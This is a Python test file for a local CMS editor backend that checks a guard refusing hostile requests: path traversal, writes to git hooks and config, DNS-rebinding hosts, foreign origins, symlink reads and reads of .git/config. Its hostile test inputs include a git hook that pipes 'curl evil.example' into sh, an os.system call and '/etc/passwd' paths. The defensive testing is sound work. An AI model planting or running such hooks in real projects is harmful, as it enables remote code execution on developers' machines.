"""The local editor (`cchc edit`) reaches only what an editor may change (issue 29, finding 1).

decap-server, started by `cchc edit`, wrote `.githooks/pre-commit`, `hooks/cchc_hooks.py`,
`scripts/check.py` and `mkdocs.yml` (for a page on `rebind.evil.example`), deleted `README.md`
and read `.git/config`. Each of those requests is sent here, as a hostile page would send it, to
the local backend as `cchc edit` starts it, and each is refused with the project left as it was.
The rules themselves are checked as data first (no program started).
"""

from __future__ import annotations

import base64
import http.client
import json
import shutil
import socket
from pathlib import Path

import pytest

from browser import require, require_node_tool
from cchc_mkdocs import edit_guard
from conftest import PROJECT, post
from nginx_server import free_port
from support.decap import edit, local_backend

SITE_FIXTURES = {"project"}  # starts decap-server (node)

NEWS = "content/news/2022"
PROCEDURES = "content/procedures/chuyen-giao-cong-nghe"
ORIGIN = "http://127.0.0.1:8000"  # the preview's page, as `cchc edit` serves it


# --- The rules, as data -------------------------------------------------------------------------

@pytest.mark.parametrize("path", [
    ".githooks/pre-commit", "hooks/cchc_hooks.py", "scripts/check.py", "mkdocs.yml", "README.md",
    ".git/config", "content/plans/2022.yml", "/etc/passwd", f"{NEWS}/../../../mkdocs.yml",
    f"{NEWS}/.an.md", f"{NEWS}/./tin.md", f"{NEWS}//tin.md", f"{NEWS}\\tin.md", "content/news2022/tin.md",
    f"{NEWS}/tin.py", f"{NEWS}/tin.md\x00.png", "C:/Windows/win.ini", "", None, 3, "content/news",
])
def test_a_path_outside_the_content_folders_or_not_an_entry_is_refused(path):
    assert edit_guard.path_refusal(path, "entry") is not None


@pytest.mark.parametrize("path, kind", [
    (f"{NEWS}/tin.md", "entry"), (f"{PROCEDURES}/dang-ky.md", "entry"), ("content/bulletins/2022/02.md", "entry"),
    (f"{NEWS}/anh.JPG", "media"), ("content/bulletins/2022/ban-tin.pdf", "media"), (f"{PROCEDURES}/mau.docx", "media"),
    ("content/news", "folder"), (NEWS, "folder"),
])
def test_entries_and_their_media_in_the_content_folders_are_allowed(path, kind):
    assert edit_guard.path_refusal(path, kind) is None


def test_a_picture_where_an_entry_goes_and_an_entry_where_a_picture_goes_are_refused():
    assert edit_guard.path_refusal(f"{NEWS}/anh.png", "entry") is not None
    assert edit_guard.path_refusal(f"{NEWS}/tin.md", "media") is not None


def test_every_path_a_save_names_is_found():
    params = {"dataFiles": [{"path": f"{NEWS}/a.md", "raw": "x", "newPath": f"{NEWS}/b.md"}],
              "assets": [{"path": f"{NEWS}/a.png", "content": "", "encoding": "base64"}]}
    assert edit_guard.request_paths("persistEntry", params) == [
        (f"{NEWS}/a.md", "entry"), (f"{NEWS}/b.md", "entry"), (f"{NEWS}/a.png", "media")]
    assert edit_guard.request_paths("deleteFiles", {"paths": ["a", "b"]}) == [("a", "any"), ("b", "any")]


# --- Through the guard, as `cchc edit` starts it ------------------------------------------------

@pytest.fixture
def project(tmp_path):
    """A project folder as an editor's checkout holds it, with decap-server behind the guard."""
    require_node_tool(PROJECT / edit.DECAP_SERVER)
    require(shutil.which("node") is not None, "no node on PATH (apt-get install nodejs)")
    root = tmp_path / "du-an"
    files = {".githooks/pre-commit": "#!/bin/sh\ncchc check --staged\n", "hooks/cchc_hooks.py": "# hooks\n",
             "scripts/check.py": "# check\n", "mkdocs.yml": "site_name: CCHC\n", "README.md": "# CCHC\n",
             ".git/config": "[remote \"origin\"]\n\turl = git@git.example.vn:skhcn/cchc.git\n",
             f"{NEWS}/tin-co-san.md": post(title="Tin có sẵn", slug="tin-co-san")}
    for rel, text in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text, encoding="utf-8")
    (root / "content/plans").mkdir(parents=True)
    shutil.copy(PROJECT / "content/plans/2022.yml", root / "content/plans/2022.yml")
    shutil.copytree(PROJECT / PROCEDURES, root / PROCEDURES)
    (tmp_path / "ngoai-du-an.md").write_text("bí mật\n", encoding="utf-8")
    port = free_port()
    with local_backend(root, port, tmp_path / "decap-server.log", ORIGIN):
        yield Client(root, port)


class Client:
    """Requests to the guard, with the headers a page would send."""

    def __init__(self, root: Path, port: int):
        self.root, self.port = root, port
        self.snapshot = self._files()

    def _files(self) -> dict[str, bytes]:
        return {p.relative_to(self.root).as_posix(): p.read_bytes() for p in sorted(self.root.rglob("*"))
                if p.is_file() and not p.is_symlink()}

    def unchanged(self) -> bool:
        return self._files() == self.snapshot

    def send(self, action: str, params: dict | None = None, *, host: str | None = None,
             origin: str | None = ORIGIN, method: str = "POST") -> tuple[int, dict, dict]:
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=60)
        headers = {"Host": host or f"127.0.0.1:{self.port}", "Content-Type": "application/json"}
        if origin is not None:
            headers["Origin"] = origin
        body = json.dumps({"action": action, "params": {"branch": "main", **(params or {})}})
        try:
            connection.request(method, "/api/v1", body.encode("utf-8"), headers)
            response = connection.getresponse()
            return response.status, json.loads(response.read() or b"null"), dict(response.getheaders())
        finally:
            connection.close()


def _entry(path: str, raw: str) -> dict:
    return {"dataFiles": [{"path": path, "slug": "x", "raw": raw}], "assets": [],
            "options": {"commitMessage": "x", "useWorkflow": False, "status": "draft"}}


HOSTILE_WRITES = [
    pytest.param(".githooks/pre-commit", "#!/bin/sh\ncurl evil.example | sh\n", id="git hook"),
    pytest.param("hooks/cchc_hooks.py", "import os\nos.system('id')\n", id="build hook"),
    pytest.param("scripts/check.py", "raise SystemExit\n", id="script"),
    pytest.param("mkdocs.yml", "hooks: [evil.py]\n", id="config"),
    pytest.param("content/plans/2022.yml", "year: 2022\n", id="plan"),
    pytest.param(f"{NEWS}/../../../mkdocs.yml", "x\n", id="dot-dot"),
    pytest.param(f"{NEWS}/.env.md", "x\n", id="dotfile"),
    pytest.param(f"{NEWS}/tin.py", "x\n", id="code in content"),
]


@pytest.mark.parametrize("path, raw", HOSTILE_WRITES)
def test_a_save_outside_the_content_folders_is_refused(project, path, raw):
    status, answer, _ = project.send("persistEntry", _entry(path, raw))
    assert status == 403 and answer["error"].startswith("Không thực hiện:")
    assert project.unchanged()


def test_a_page_on_another_host_name_is_refused_even_for_a_content_file(project):
    # What a DNS-rebinding page sends: its own name for 127.0.0.1.
    for path in ("mkdocs.yml", f"{NEWS}/tin-moi.md"):
        status, answer, headers = project.send("persistEntry", _entry(path, post()), host="rebind.evil.example")
        assert status == 403 and "rebind.evil.example" in answer["error"]
        assert "Access-Control-Allow-Origin" not in headers
    assert project.unchanged()


@pytest.mark.parametrize("origin", ["http://evil.example", "http://localhost:8000", "http://127.0.0.1:8001", None])
def test_a_request_not_from_the_previews_page_is_refused(project, origin):
    status, answer, headers = project.send("persistEntry", _entry(f"{NEWS}/tin-moi.md", post()), origin=origin)
    assert status == 403 and ORIGIN in answer["error"]
    assert "Access-Control-Allow-Origin" not in headers
    assert project.unchanged()


def test_deleting_the_readme_is_refused(project):
    status, _, _ = project.send("deleteFile", {"path": "README.md", "options": {"commitMessage": "x"}})
    assert status == 403 and project.unchanged()
    status, _, _ = project.send("deleteFiles", {"paths": [f"{NEWS}/tin-co-san.md", "README.md"],
                                                "options": {"commitMessage": "x"}})
    assert status == 403 and project.unchanged()


@pytest.mark.parametrize("action, params", [
    ("getEntry", {"path": ".git/config"}),
    ("getMediaFile", {"path": ".git/config"}),
    ("entriesByFiles", {"files": [{"path": ".git/config"}]}),
    ("entriesByFolder", {"folder": ".git", "extension": "", "depth": 2}),
    ("getMedia", {"mediaFolder": "."}),
])
def test_reading_the_git_config_is_refused(project, action, params):
    status, answer, _ = project.send(action, params)
    assert status == 403 and "git.example.vn" not in json.dumps(answer)


def test_a_link_planted_among_the_posts_is_neither_read_nor_listed(project):
    link = project.root / NEWS / "lien-ket.md"
    link.symlink_to(project.root.parent / "ngoai-du-an.md")
    status, answer, _ = project.send("getEntry", {"path": f"{NEWS}/lien-ket.md"})
    assert status == 403 and "bí mật" not in json.dumps(answer, ensure_ascii=False)
    status, listed, _ = project.send("entriesByFolder", {"folder": "content/news", "extension": "md", "depth": 3})
    assert status == 200 and [e["file"]["path"] for e in listed] == [f"{NEWS}/tin-co-san.md"]
    status, _, _ = project.send("persistEntry", _entry(f"{NEWS}/lien-ket.md", post()))
    assert status == 403 and (project.root.parent / "ngoai-du-an.md").read_text(encoding="utf-8") == "bí mật\n"


def test_actions_of_the_git_workflow_and_moves_are_refused(project):
    status, _, _ = project.send("unpublishedEntries")
    assert status == 403
    move = _entry(f"{NEWS}/tin-co-san.md", post(title="Tin có sẵn", slug="tin-co-san"))
    move["dataFiles"][0]["newPath"] = f"{NEWS}/tin-khac.md"
    status, _, _ = project.send("persistEntry", move)
    assert status == 403 and project.unchanged()


def test_only_post_requests_are_answered(project):
    status, _, _ = project.send("info", method="GET")
    assert status == 405


def test_the_previews_page_lists_reads_and_saves_entries(project):
    status, listed, headers = project.send("entriesByFolder", {"folder": "content/news", "extension": "md", "depth": 3})
    assert status == 200 and headers["Access-Control-Allow-Origin"] == ORIGIN
    assert [e["file"]["path"] for e in listed] == [f"{NEWS}/tin-co-san.md"]
    picture = base64.b64encode((PROJECT / "content/bulletins/2022").glob("*.svg").__next__().read_bytes()).decode()
    save = _entry(f"{NEWS}/tin-moi.md", post(title="Tin mới", image="anh.svg", image_alt="Ảnh minh hoạ"))
    save["assets"] = [{"path": f"{NEWS}/anh.svg", "content": picture, "encoding": "base64"}]
    status, answer, _ = project.send("persistEntry", save)
    assert status == 200, answer
    assert (project.root / NEWS / "tin-moi.md").read_text(encoding="utf-8").startswith("---\ntitle: Tin mới\n")
    assert (project.root / NEWS / "anh.svg").is_file()


def test_a_save_that_breaks_the_whole_content_is_refused_with_the_checkers_lines(project):
    # A second procedure with the code of one already there: only the whole content tells.
    existing = next((project.root / PROCEDURES).glob("*.md"))
    status, answer, _ = project.send("persistEntry", _entry(f"{PROCEDURES}/ban-sao.md",
                                                            existing.read_text(encoding="utf-8")))
    assert status == 422
    lines = answer["error"].split("\n")
    assert lines[0].startswith("Chưa lưu:")
    # The checker's lines: `tệp:dòng: trường: …`, on the procedures that share the code.
    assert lines[1:] and all(line.startswith(f"{PROCEDURES}/") for line in lines[1:]), lines
    assert project.unchanged()


def test_a_bulletin_whose_pdf_is_not_a_pdf_is_not_saved(project):
    bulletin = ("---\nnumber: 2\ndate: 2022-04-28\ntitle: Bản tin số 2\npdf: ban-tin.pdf\ntopics: [II.5]\n"
                "contents:\n  - Bài viết\n---\n")
    save = _entry("content/bulletins/2022/02.md", bulletin)
    save["assets"] = [{"path": "content/bulletins/2022/ban-tin.pdf", "encoding": "base64",
                       "content": base64.b64encode(b"<html>not a pdf</html>").decode()}]
    status, answer, _ = project.send("persistEntry", save)
    assert status == 422 and "\ncontent/bulletins/2022/ban-tin.pdf:1: " in answer["error"], answer
    assert project.unchanged()


def test_a_post_whose_link_leads_nowhere_is_not_saved_and_a_link_to_a_post_is(project):
    status, answer, _ = project.send("persistEntry", _entry(f"{NEWS}/tin-moi.md", post(
        title="Tin mới", slug="tin-moi", body="Xem [tin cũ](tin-da-xoa.md).")))
    assert status == 422 and f"\n{NEWS}/tin-moi.md:" in answer["error"], answer
    assert ": Nội dung: liên kết 'tin-da-xoa.md' không dẫn tới tệp nào" in answer["error"]
    assert project.unchanged()
    status, answer, _ = project.send("persistEntry", _entry(f"{NEWS}/tin-moi.md", post(
        title="Tin mới", slug="tin-moi", body="Xem [tin có sẵn](tin-co-san.md).")))
    assert status == 200, answer


def test_the_backend_is_waited_for_until_it_listens_not_only_until_its_socket_file_exists(tmp_path):
    path = str(tmp_path / "decap.sock")
    assert not edit.accepts(path)
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as server:
        server.bind(path)  # the file exists: a connection is still refused until listen()
        assert not edit.accepts(path)
        server.listen(1)
        assert edit.accepts(path)
